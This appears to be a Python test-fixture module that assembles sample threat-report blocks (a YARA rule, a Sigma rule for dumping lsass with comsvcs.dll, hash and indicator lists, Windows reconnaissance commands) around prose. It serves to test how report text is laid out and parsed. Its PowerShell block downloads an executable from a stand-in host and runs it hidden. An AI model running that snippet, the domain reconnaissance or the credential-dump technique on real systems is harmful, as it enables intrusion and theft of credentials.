"""Real shapes of layout noise in threat reports: a YARA rule, a Sigma rule, hash lists, an indicator table, a
PowerShell block and a defanged indicator list, each between sentences of prose."""

from __future__ import annotations

import hashlib

PROSE_BEFORE = "We have also provided the YARA rule below, which can be used to identify the loader's binaries."
PROSE_AFTER = "Threat actors will continue to modify the code, as the new file name shows."

# A YARA rule of 70 lines, laid out as vendors publish them (meta, strings, condition).
YARA = "\n".join(
    ["rule ecrime_LOADER_strings {", "meta:", '     id = "8c59c35d-8fb8-4644-9fa4-ce05b30e91c3"',
     '     author = "Threat Research"', '     description = "Detects common strings of the loader."',
     '     classification = "TLP:CLEAR"', "strings:"]
    + [f'     $s{i} = "loader_string_{i}.dll" ascii nocase' for i in range(1, 58)]
    + ["condition:", "    (filesize>250KB and filesize<1MB) and", "    uint16(0) == 0x5A4D and",
       "    (($s1 and $s2 and $s3) or", "    $s4 or $s5)", "}"])

SIGMA = """title: Using the Minidump function of comsvcs.dll
description: The minidump function of comsvcs.dll can be used to dump lsass.exe.
             In addition, the Minidump function can be called using #24 rather than its name.
author: Threat Research
logsource:
   category: process_creation
   product: windows
detection:
    selection:
        process_name|wildcard:
        - rundll32.exe
        - powershell.exe
    command_line_filter:
        command_line|re: .*comsvcs.*(minidump|#24).*
    condition: selection AND command_line_filter
falsepositives:
    - Penetration testing
level: high
tags:
   - attack.credential_access
   - attack.T1003.001"""

SHA256_LIST = "\n".join(hashlib.sha256(f"sample {i}".encode()).hexdigest() for i in range(30))

IP_DOMAIN_TABLE = """Domain | IP | ASN
m.necemarket[.]com | 172.105.94[.]67 | AS63949 – LINODE
holdmem.dbhubspi[.]com | 5.188.93[.]132 | AS202422 – G-Core Labs
update.microsoft-cdn[.]net | 45.77.12[.]9 | AS20473 – Choopa
cdn.staticfiles[.]org | 103.139.2[.]93 | AS63916 – IPTP"""

POWERSHELL = """$down = New-Object System.Net.WebClient
$url = 'https://transfer.example/ZZZZ/WindowsUpdate'
$file = [System.IO.Path]::Combine([System.IO.Path]::GetTempPath(), 'update.exe')
$down.DownloadFile($url, $file)
if (Test-Path $file) {
    Start-Process -FilePath $file -WindowStyle Hidden
}"""

DEFANGED = """• hxxp://evil[.]com/a.php
• hxxps://cdn.bad-domain[.]net/payload.bin
• 185.117.2[.]81
• update-check[.]org
• admin@phish-mail[.]com"""

COMMANDS = """C:\\Windows\\system32\\cmd.exe /C whoami /all
net group "domain admins" /domain
nltest /dclist:corp.local"""

SHAPES = {"yara": (YARA, "rule", "YARA rule, 70 lines"), "sigma": (SIGMA, "rule", "Sigma rule, 21 lines"),
          "sha256": (SHA256_LIST, "indicators", "Indicator list, 30 lines (30 hashes)"),
          "table": (IP_DOMAIN_TABLE, "indicators", "Indicator list, 5 lines"),
          "powershell": (POWERSHELL, "code", "PowerShell code, 7 lines"),
          "defanged": (DEFANGED, "indicators", "Indicator list, 5 lines")}


def report_with(block: str) -> str:
    """A report: a paragraph, the block, a paragraph (as the extractors lay text out: blank lines between)."""
    return f"{PROSE_BEFORE}\n\n{block}\n\n{PROSE_AFTER}"
